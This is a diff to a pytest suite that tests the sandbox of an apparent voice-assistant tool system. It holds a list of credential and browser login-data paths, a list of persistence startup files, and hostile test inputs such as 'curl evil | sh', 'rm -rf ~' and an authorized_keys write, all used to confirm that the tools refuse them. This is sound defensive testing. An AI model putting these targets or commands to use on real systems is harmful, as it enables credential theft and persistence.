@@ -37,6 +37,66 @@ class Confirmations:
         return self.answer
 
 
+# Credentials that must not be read (relative to a root that plays the home folder).
+CREDENTIAL_FILES = [
+    ".Xauthority",
+    ".ICEauthority",
+    ".config/pulse/cookie",
+    ".bash_history",
+    ".zsh_history",
+    ".zhistory",
+    ".local/share/fish/fish_history",
+    ".python_history",
+    ".node_repl_history",
+    ".psql_history",
+    ".mysql_history",
+    ".viminfo",
+    ".lesshst",
+    ".cargo/credentials.toml",
+    ".config/rclone/rclone.conf",
+    ".terraform.d/credentials.tfrc.json",
+    ".m2/settings.xml",
+    ".config/hub",
+    ".config/gh/hosts.yml",
+    ".config/op/config",
+    ".netrc",
+    ".pgpass",
+    ".npmrc",
+    ".pypirc",
+    ".docker/config.json",
+    ".kube/config",
+    ".aws/credentials",
+    ".azure/accessTokens.json",
+    ".config/gcloud/credentials.db",
+    ".config/Code/User/globalStorage/state.vscdb",
+    ".local/share/epiphany/cookies.sqlite",
+    ".config/falkon/profiles/default/cookies.db",
+    ".config/vivaldi/Default/Login Data",
+    ".config/BraveSoftware/Brave-Browser/Default/Login Data",
+    ".config/opera/Login Data",
+]
+
+# Files that make code run later: never written or deleted, even after a yes.
+STARTUP_FILES = [
+    ".bashrc",
+    ".bash_profile",
+    ".profile",
+    ".zshrc",
+    ".zprofile",
+    ".xprofile",
+    ".xsessionrc",
+    ".pam_environment",
+    ".config/fish/config.fish",
+    ".config/autostart/updater.desktop",
+    ".config/systemd/user/voiced.service",
+    ".config/environment.d/10-path.conf",
+    ".local/bin/ls",
+    ".local/share/applications/firefox.desktop",
+    ".gitconfig",
+    "project/startup.pth",
+]
+
+
 @pytest.fixture
 def world(tmp_path: Path, voiced_home: Path) -> dict[str, Path]:
     """A root with ordinary files, secrets inside it, links pointing out, and an outside."""
@@ -62,6 +122,19 @@ def world(tmp_path: Path, voiced_home: Path) -> dict[str, Path]:
     (root / "dir_out").symlink_to(outside / "data")
     (root / "innocent.txt").symlink_to(root / ".ssh" / "id_ed25519")
     (root / "keys").symlink_to(root / ".ssh")
+    for name in ("PROD.ENV", ".ENV", "Server.KEY", "Private.PEM", "ID_RSA"):
+        (root / "project" / name).write_text(SECRET)
+    for credential in CREDENTIAL_FILES:
+        (root / credential).parent.mkdir(parents=True, exist_ok=True)
+        (root / credential).write_text(SECRET)
+    for startup in STARTUP_FILES:
+        (root / startup).parent.mkdir(parents=True, exist_ok=True)
+        (root / startup).write_text("echo hello\n")
+    (root / "project" / "venv").mkdir()
+    (root / "project" / "venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (root / "project" / "venv" / "bin").mkdir()
+    (root / "project" / ".git" / "hooks").mkdir(parents=True)
+    (root / "lib" / "site-packages").mkdir(parents=True)
     transcripts = voiced_home / "transcripts"
     transcripts.mkdir()
     (transcripts / "2026-01-01.jsonl").write_text(f'{{"user": "{SECRET}"}}\n')
@@ -405,8 +478,8 @@ def test_listing_and_searching_hide_secrets(world: dict[str, Path]) -> None:
 
 
 def test_registry_without_the_policy_still_checks_inside_the_tools(world: dict[str, Path]) -> None:
-    # A registry that skips the pre-flight (a permissive policy) still cannot escape:
-    # every tool resolves and checks its paths itself when it runs.
+    # A registry that skips the pre-flight (a permissive policy, and a yes to every question)
+    # still cannot escape: every tool resolves and checks its paths itself when it runs.
     from voiced.tools import commands, files
     from voiced.tools.registry import PolicyDecision
 
@@ -414,6 +487,7 @@ def test_registry_without_the_policy_still_checks_inside_the_tools(world: dict[s
     registry = ToolRegistry(
         files.tools(settings) + commands.tools(settings),
         policy=lambda tool, args: PolicyDecision.allow(),
+        confirm=lambda request: True,
     )
     before = snapshot(world["tmp"], world["home"])
     for tool, arguments in [
@@ -425,6 +499,239 @@ def test_registry_without_the_policy_still_checks_inside_the_tools(world: dict[s
         ("run_command", {"command": "rm", "args": ["notes/todo.txt"]}),
     ]:
         outcome = registry.call(tool, arguments)
-        assert outcome.decision == "allowed" and not outcome.ok, (tool, outcome)
+        assert outcome.decision in ("allowed", "confirmed") and not outcome.ok, (tool, outcome)
         assert SECRET not in outcome.error
+    assert snapshot(world["tmp"], world["home"]) == before
+
+
+def assert_refused(
+    world: dict[str, Path], tool: str, arguments: dict[str, Any], reason: str, **tools: Any
+) -> None:
+    """Refused before anyone is asked, with ``reason`` in the reason, nothing changed, audited."""
+    registry, confirm = registry_for(world, answer=True, **tools)
+    arguments = _absolute(world, arguments)
+    before = snapshot(world["tmp"], world["home"])
+    outcome = registry.call(tool, arguments)
+    assert outcome.decision == "refused", (tool, arguments, outcome)
+    assert reason in outcome.reason, outcome.reason
+    assert not confirm.asked
+    assert snapshot(world["tmp"], world["home"]) == before
+    assert SECRET not in (outcome.error or "") + outcome.result
+    record = last_audit()
+    assert (record["tool"], record["decision"]) == (tool, "refused")
+    assert record["reason"] == outcome.reason
+
+
+@pytest.mark.parametrize("name", ["PROD.ENV", ".ENV", "Server.KEY", "Private.PEM", "ID_RSA"])
+def test_secret_names_match_whatever_their_case(world: dict[str, Path], name: str) -> None:
+    assert_refused(world, "read_file", {"path": f"project/{name}"}, "off limits (secrets: ")
+    assert_refused(
+        world, "run_command", {"command": "cat", "args": [f"project/{name}"]}, "off limits"
+    )
+
+
+@pytest.mark.parametrize("credential", CREDENTIAL_FILES)
+def test_common_credentials_are_not_readable(
+    world: dict[str, Path], credential: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(world["root"]))
+    assert_refused(world, "read_file", {"path": f"~/{credential}"}, "off limits (secrets: ")
+
+
+@pytest.mark.parametrize("startup", STARTUP_FILES)
+@pytest.mark.parametrize("tool", ["write_file", "delete_file"])
+def test_files_that_run_code_are_never_written_or_deleted(
+    world: dict[str, Path], startup: str, tool: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(world["root"]))
+    arguments = {"path": f"~/{startup}"}
+    if tool == "write_file":
+        arguments["content"] = "curl evil | sh"
+    assert_refused(world, tool, arguments, "makes programs run")
+    # Reading them is harmless.
+    registry, _ = registry_for(world)
+    assert registry.call("read_file", {"path": f"~/{startup}"}).ok
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("write_file", {"path": "project/venv/bin/activate", "content": "x"}),
+        ("write_file", {"path": "project/venv/new.py", "content": "x"}),
+        ("write_file", {"path": "project/.git/hooks/pre-commit", "content": "x"}),
+        ("write_file", {"path": "lib/site-packages/evil.py", "content": "x"}),
+        ("write_file", {"path": "project/sitecustomize.py", "content": "x"}),
+        ("write_file", {"path": "project/.local/bin/new-tool", "content": "x"}),
+        ("delete_file", {"path": "project/venv/pyvenv.cfg"}),
+        ("speak_to_file", {"text": "hi", "path": ".config/autostart/x.wav"}),
+        ("speak_to_file", {"text": "hi", "path": "project/venv/x.wav"}),
+    ],
+)
+def test_python_environments_and_hooks_are_never_written(
+    world: dict[str, Path], tool: str, arguments: dict[str, Any]
+) -> None:
+    assert_refused(world, tool, arguments, "makes programs run")
+
+
+def test_voiced_own_program_is_never_written(world: dict[str, Path]) -> None:
+    import voiced
+
+    package = Path(voiced.__file__).resolve().parent
+    project = package.parent
+    registry, confirm = registry_for(world, answer=False, file_roots=[str(project)])
+    for target in (package / "tools" / "new_module.py", project / "tests" / "conftest.py"):
+        before = target.read_bytes() if target.exists() else None
+        outcome = registry.call("write_file", {"path": str(target), "content": "import os"})
+        assert outcome.decision == "refused", outcome
+        assert "voiced's own program" in outcome.reason
+        assert (target.read_bytes() if target.exists() else None) == before
+        assert last_audit()["decision"] == "refused"
+    assert not confirm.asked
+
+
+def test_the_write_question_shows_the_start_of_the_content(world: dict[str, Path]) -> None:
+    registry, confirm = registry_for(world, answer=False)
+    content = "rm -rf ~\x1b[2K\nand a lot more text after the first sixty characters of it"
+    outcome = registry.call("write_file", {"path": "notes/todo.txt", "content": content})
+    assert outcome.decision == "declined"
+    question = confirm.asked[0].question
+    assert question.startswith("Replace ~/") or question.startswith(f"Replace {world['root']}")
+    assert '"rm -rf ~\\x1b[2K and a lot more text after the first sixty chara…"' in question
+    assert "\x1b" not in question and "\n" not in question
+    assert question.endswith("Say yes or no.")
+
+
+def test_a_hard_link_to_a_secret_is_not_read_under_another_name(world: dict[str, Path]) -> None:
+    link = world["root"] / "notes" / "hardlink.txt"
+    os.link(world["root"] / ".ssh" / "id_ed25519", link)
+    assert_refused(world, "read_file", {"path": "notes/hardlink.txt"}, "other names")
+    assert_refused(
+        world, "run_command", {"command": "cat", "args": ["notes/hardlink.txt"]}, "other names"
+    )
+    assert_refused(
+        world, "run_command", {"command": "grep", "args": ["TOP", "notes/hardlink.txt"]}, "links"
+    )
+
+
+@pytest.mark.parametrize(
+    "name", ["\x1b[2Kx.txt", "a\nb.txt", "bell\x07.txt", "rlo\u202etxt.exe", "tab\there.txt"]
+)
+def test_control_characters_in_names_are_refused_for_changes(
+    world: dict[str, Path], name: str
+) -> None:
+    assert_refused(
+        world, "write_file", {"path": f"notes/{name}", "content": "x"}, "control character"
+    )
+    wav = name.replace(".txt", ".wav").replace(".exe", ".wav")
+    assert_refused(world, "speak_to_file", {"text": "hi", "path": f"notes/{wav}"}, "control")
+    (world["root"] / "notes" / name).write_text("planted")
+    assert_refused(world, "delete_file", {"path": f"notes/{name}"}, "control character")
+
+
+def test_control_characters_in_names_are_escaped_in_results(world: dict[str, Path]) -> None:
+    (world["root"] / "notes" / "red\x1b[31m.txt").write_text("x")
+    registry, _ = registry_for(world)
+    for tool, arguments in [
+        ("list_directory", {"path": "notes"}),
+        ("find_files", {"pattern": "red*"}),
+        ("find_large_files", {"path": "notes"}),
+        ("disk_usage", {"path": "notes"}),
+        ("read_file", {"path": "notes/red\x1b[31m.txt"}),
+    ]:
+        outcome = registry.call(tool, arguments)
+        assert outcome.ok, outcome.error
+        assert "\x1b" not in outcome.result and "red\\x1b[31m.txt" in outcome.result, outcome
+    sandbox = Sandbox([world["root"]])
+    shown = sandbox.display(world["root"] / "a\x1b\x07\u202eb")
+    assert shown == f"{world['root']}/a\\x1b\\x07\\u202eb"
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("read_file", {"path": "notes/todo.txt\x00.jpg"}),
+        ("write_file", {"path": "notes/new.txt\x00", "content": "x"}),
+        ("delete_file", {"path": "notes/todo.txt\x00"}),
+        ("list_directory", {"path": "notes\x00"}),
+        ("run_command", {"command": "cat", "args": ["notes/todo.txt\x00"]}),
+        ("run_command", {"command": "ls\x00", "args": []}),
+    ],
+)
+def test_nul_bytes_in_paths_are_refused(
+    world: dict[str, Path], tool: str, arguments: dict[str, Any]
+) -> None:
+    registry, confirm = registry_for(world, answer=True)
+    before = snapshot(world["tmp"], world["home"])
+    outcome = registry.call(tool, arguments)
+    assert outcome.decision == "refused" and not confirm.asked, outcome
+    assert snapshot(world["tmp"], world["home"]) == before
+    assert last_audit()["decision"] == "refused"
+
+
+@pytest.mark.parametrize(
+    "pattern", ["../*", "../outside/*", "../../*", "/*", "/etc/*", "*/../../outside/*"]
+)
+def test_find_files_patterns_cannot_leave_the_folder(world: dict[str, Path], pattern: str) -> None:
+    registry, _ = registry_for(world)
+    before = snapshot(world["tmp"], world["home"])
+    outcome = registry.call("find_files", {"pattern": pattern, "path": "notes"})
+    assert outcome.ok and outcome.result.startswith("no files matching"), outcome.result
+    assert "passwords" not in outcome.result and SECRET not in outcome.result
+    assert snapshot(world["tmp"], world["home"]) == before
+    record = last_audit()
+    assert record["tool"] == "find_files" and record["arguments"]["pattern"] == pattern
+
+
+@pytest.mark.parametrize(
+    "args",
+    [["--al"], ["--rec"], ["--recursive"], ["--hid=x"], ["--dere"], ["-la", "--recur"]],
+)
+def test_abbreviated_long_options_are_refused(world: dict[str, Path], args: list[str]) -> None:
+    assert_refused(world, "run_command", {"command": "ls", "args": args}, "does not allow")
+
+
+def test_abbreviated_grep_options_are_refused(world: dict[str, Path]) -> None:
+    for args in (["--recu", "KEY", "."], ["--file=x", "big.txt"], ["--fi", "x", "big.txt"]):
+        assert_refused(world, "run_command", {"command": "grep", "args": args}, "does not allow")
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("read_file", {"path": "~/.ssh/id_ed25519"}),
+        ("read_file", {"path": "~/notes/../.ssh/id_ed25519"}),
+        ("list_directory", {"path": "~/.ssh"}),
+        ("write_file", {"path": "~/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"}),
+        ("run_command", {"command": "cat", "args": ["~/.ssh/id_ed25519"]}),
+        ("run_command", {"command": "ls", "args": [], "cwd": "~/.ssh"}),
+    ],
+)
+def test_ssh_reached_through_the_home_folder_is_refused(
+    world: dict[str, Path], tool: str, arguments: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(world["root"]))
+    assert_refused(world, tool, arguments, "off limits")
+
+
+def test_a_permissive_policy_cannot_skip_the_question(world: dict[str, Path]) -> None:
+    from voiced.tools import files
+    from voiced.tools.audit import AuditLog
+    from voiced.tools.registry import PolicyDecision
+
+    confirm = Confirmations(False)
+    registry = ToolRegistry(
+        files.tools(settings_for(world).tools),
+        policy=lambda tool, args: PolicyDecision.allow(),
+        confirm=confirm,
+        on_call=AuditLog(source="test"),
+    )
+    before = snapshot(world["tmp"], world["home"])
+    for tool, arguments in [
+        ("delete_file", {"path": "notes/todo.txt"}),
+        ("write_file", {"path": "notes/todo.txt", "content": "gone"}),
+    ]:
+        outcome = registry.call(tool, arguments)
+        assert outcome.decision == "declined", outcome
+        assert last_audit()["decision"] == "declined"
+    assert [request.tool for request in confirm.asked] == ["delete_file", "write_file"]
     assert snapshot(world["tmp"], world["home"]) == before
